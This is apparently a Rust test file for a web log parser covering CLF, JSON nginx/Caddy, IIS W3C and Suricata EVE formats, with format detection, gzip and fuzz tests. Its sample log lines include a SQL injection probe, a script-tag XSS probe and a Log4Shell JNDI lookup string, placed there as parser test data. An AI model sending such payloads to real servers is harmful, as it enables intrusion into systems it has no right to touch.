use super::*;

fn one(
    format: WebLogFormat,
    text: &str,
) -> (Vec<WebRequest<'static>>, Vec<(u64, String)>, WebLogStats) {
    let mut reqs = Vec::new();
    let mut diags = Vec::new();
    let st = read_bytes(
        text.as_bytes(),
        format,
        &mut |r| reqs.push(r.clone().into_owned()),
        &mut |l, e| diags.push((l, e.to_string())),
    );
    (reqs, diags, st)
}

const COMBINED: &str = r#"203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] "GET /index.php?id=1%27%20OR%201=1 HTTP/1.1" 200 2326 "http://ex.com/" "Mozilla/5.0 (X11)""#;

#[test]
fn combined_line() {
    let (r, d, _) = one(WebLogFormat::Clf, COMBINED);
    assert!(d.is_empty(), "{d:?}");
    let r = &r[0];
    assert_eq!(r.src.to_string(), "203.0.113.9");
    assert_eq!(r.method, "GET");
    assert_eq!(r.uri, "/index.php?id=1%27%20OR%201=1");
    assert_eq!(r.status, Some(200));
    assert_eq!(r.bytes, 2326);
    assert_eq!(r.referer.as_deref(), Some("http://ex.com/"));
    assert_eq!(r.user_agent.as_deref(), Some("Mozilla/5.0 (X11)"));
    assert_eq!(r.ts, 971_211_336_000_000);
    assert_eq!(r.site, None);
    assert_eq!(r.rec, 1);
}

#[test]
fn common_vhost_and_trailing_fields() {
    let text = "www.ex.org:443 198.51.100.7 - bob [10/Oct/2000:13:55:36 +0000] \"POST /login HTTP/1.1\" 302 - \"-\" \"curl/8.0\" 12345\n\
                2001:db8::1 - - [10/Oct/2000:13:55:37 +0000] \"GET / HTTP/1.0\" 404 12 0.004\n\
                192.0.2.1 - - [10/Oct/2000:13:55:38 +0000] \"GET /a\\\"b HTTP/1.1\" 200 1 \"-\" \"x\\\"y\"\n";
    let (r, d, st) = one(WebLogFormat::Clf, text);
    assert!(d.is_empty(), "{d:?}");
    assert_eq!(st.requests, 3);
    assert_eq!(r[0].site.as_deref(), Some("www.ex.org"));
    assert_eq!(r[0].method, "POST");
    assert_eq!(r[0].bytes, 0);
    assert_eq!(r[0].referer, None);
    assert_eq!(r[1].src.to_string(), "2001:db8::1");
    assert_eq!(r[1].user_agent, None);
    assert_eq!(r[2].uri, "/a\"b");
    assert_eq!(r[2].user_agent.as_deref(), Some("x\"y"));
}

#[test]
fn bad_lines_are_counted_and_good_ones_kept() {
    let mut text = Vec::new();
    text.extend_from_slice(COMBINED.as_bytes());
    text.extend_from_slice(b"\n203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] \"GET /x HTTP/1.1\n"); // unbalanced quote
    text.extend_from_slice(
        b"203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] \"GET /\xff HTTP/1.1\" 200 1\n",
    ); // bad UTF-8
    text.extend_from_slice(
        b"203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] \"GET /\0 HTTP/1.1\" 200 1\n",
    ); // NUL
    text.extend_from_slice(b"203.0.113.9 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.1\"\n"); // truncated
    text.extend_from_slice(b"{\"remote_addr\":\"1.2.3.4\"}\n"); // other format
    text.extend_from_slice(&vec![b'a'; MAX_LINE + 10]); // overlong
    text.push(b'\n');
    text.extend_from_slice(COMBINED.as_bytes());
    let mut reqs = 0;
    let mut diags = Vec::new();
    let st = read_bytes(&text, WebLogFormat::Clf, &mut |_| reqs += 1, &mut |l, e| {
        diags.push((l, e.clone()))
    });
    assert_eq!(reqs, 2);
    assert_eq!(st.malformed, 6);
    let lines: Vec<u64> = diags.iter().map(|d| d.0).collect();
    assert_eq!(lines, vec![2, 3, 4, 5, 6, 7]);
    assert!(matches!(diags[1].1, LineError::Utf8(_)));
    assert!(matches!(diags[2].1, LineError::Nul(_)));
    assert!(matches!(diags[4].1, LineError::OtherFormat { .. }));
    assert_eq!(diags[5].1, LineError::Overlong);
    assert!(
        diags[0].1.to_string().contains("unbalanced"),
        "{}",
        diags[0].1
    );
    assert!(
        diags[3].1.to_string().contains("truncated"),
        "{}",
        diags[3].1
    );
}

#[test]
fn json_nginx_and_caddy() {
    let text = r#"{"time_iso8601":"2024-01-02T03:04:05+00:00","remote_addr":"198.51.100.2","host":"shop.ex","request":"GET /p?q=<script> HTTP/1.1","status":"200","body_bytes_sent":"512","http_referer":"","http_user_agent":"UA/1","request_time":"0.010"}
{"level":"info","ts":1646861401.5241024,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"127.0.0.1","remote_port":"41342","proto":"HTTP/1.1","method":"POST","host":"localhost","uri":"/wp-login.php","headers":{"User-Agent":["curl/7.82.0"]}},"duration":0.0009,"size":10900,"status":200}
{"remote_addr":"bogus","request_uri":"/"}
not json at all
"#;
    let (r, d, st) = one(WebLogFormat::JsonAccess, text);
    assert_eq!(st.requests, 2);
    assert_eq!(r[0].uri, "/p?q=<script>");
    assert_eq!(r[0].method, "GET");
    assert_eq!(r[0].site.as_deref(), Some("shop.ex"));
    assert_eq!(r[0].referer, None);
    assert_eq!(r[0].bytes, 512);
    assert_eq!(r[1].method, "POST");
    assert_eq!(r[1].user_agent.as_deref(), Some("curl/7.82.0"));
    assert_eq!(r[1].site.as_deref(), Some("localhost"));
    assert_eq!(r[1].ts, 1_646_861_401_524_102);
    assert_eq!(d.len(), 2);
    assert_eq!(d[0].0, 3);
    assert_eq!(d[1].0, 4);
}

#[test]
fn w3c_fields_change_mid_file() {
    let text = "#Software: Microsoft Internet Information Services 10.0\n\
#Version: 1.0\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n\
2024-01-02 03:04:05 10.0.0.1 GET /default.aspx id=1 80 - 203.0.113.5 Mozilla/5.0+(Windows) - 200 0 0 15\n\
#Fields: date time c-ip cs-method cs-uri-stem cs-host sc-status sc-bytes\n\
2024-01-02 03:04:06 203.0.113.6 POST /upload.aspx www.ex.gov 500 42\n\
2024-01-02 03:04:07 203.0.113.6 POST\n";
    let (r, d, st) = one(WebLogFormat::W3c, text);
    assert_eq!(st.requests, 2);
    assert_eq!(r[0].uri, "/default.aspx?id=1");
    assert_eq!(r[0].user_agent.as_deref(), Some("Mozilla/5.0 (Windows)"));
    assert_eq!(r[0].src.to_string(), "203.0.113.5");
    assert_eq!(r[1].site.as_deref(), Some("www.ex.gov"));
    assert_eq!(r[1].bytes, 42);
    assert_eq!(r[1].status, Some(500));
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].0, 7);
}

#[test]
fn eve_http_events() {
    let text = r#"{"timestamp":"2021-12-10T10:00:00.123456+0000","flow_id":1,"event_type":"http","src_ip":"203.0.113.7","src_port":5555,"dest_ip":"10.0.0.2","dest_port":80,"proto":"TCP","http":{"hostname":"www.ex.cn","url":"/?x=${jndi:ldap://a/b}","http_user_agent":"${jndi:ldap://a/b}","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":10}}
{"timestamp":"2021-12-10T10:00:01+0000","event_type":"alert","src_ip":"203.0.113.7","dest_ip":"10.0.0.2","alert":{"signature_id":1}}
{"timestamp":"2021-12-10T10:00:01+0000","event_type":"http","src_ip":"203.0.113.7","http":{"hostname":"x"}}
"#;
    let (r, d, st) = one(WebLogFormat::SuricataEve, text);
    assert_eq!(st.requests, 1);
    assert_eq!(st.skipped, 1);
    assert_eq!(r[0].site.as_deref(), Some("www.ex.cn"));
    assert_eq!(r[0].uri, "/?x=${jndi:ldap://a/b}");
    assert_eq!(r[0].status, Some(200));
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].0, 3);
}

#[test]
fn detection() {
    let l = |s: &'static str| s.as_bytes();
    assert_eq!(detect(&[l(COMBINED)]), Some(WebLogFormat::Clf));
    assert_eq!(
        detect(&[
            l("#Software: Microsoft Internet Information Services 10.0"),
            l("#Fields: date time c-ip cs-method")
        ]),
        Some(WebLogFormat::W3c)
    );
    assert_eq!(
        detect(&[l(
            r#"{"timestamp":"2021-12-10T10:00:00+0000","event_type":"dns","src_ip":"1.2.3.4"}"#
        )]),
        Some(WebLogFormat::SuricataEve)
    );
    assert_eq!(
        detect(&[l(
            r#"{"remote_addr":"1.2.3.4","request":"GET / HTTP/1.1","time_iso8601":"x"}"#
        )]),
        Some(WebLogFormat::JsonAccess)
    );
    // Zeek logs are not web logs.
    assert_eq!(
        detect(&[l("#separator \\x09"), l("#fields\tts\tuid\tid.orig_h")]),
        None
    );
    assert_eq!(
        detect(&[l(r#"{"ts":1.0,"uid":"C1","id.orig_h":"1.2.3.4"}"#)]),
        None
    );
    assert_eq!(detect(&[]), None);
}

#[test]
fn gzip_file_is_read() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("access.log.gz");
    let mut gz = flate2::write::GzEncoder::new(
        std::fs::File::create(&p).unwrap(),
        flate2::Compression::fast(),
    );
    writeln!(gz, "{COMBINED}\n{COMBINED}").unwrap();
    gz.finish().unwrap();
    let mut n = 0;
    let (f, st) = read_file(&p, None, &mut |_| n += 1, &mut |_, _| {}).unwrap();
    assert_eq!(f, WebLogFormat::Clf);
    assert!(st.gzip);
    assert_eq!(n, 2);
}

proptest::proptest! {
    #[test]
    fn parsers_never_panic(data in proptest::collection::vec(proptest::num::u8::ANY, 0..400)) {
        fuzz(&data);
    }

    #[test]
    fn clf_mutations_never_panic(cut in 0usize..200, b in proptest::num::u8::ANY) {
        let mut v = COMBINED.as_bytes().to_vec();
        let i = cut.min(v.len() - 1);
        v[i] = b;
        v.truncate(cut.max(i + 1));
        fuzz(&v);
    }
}
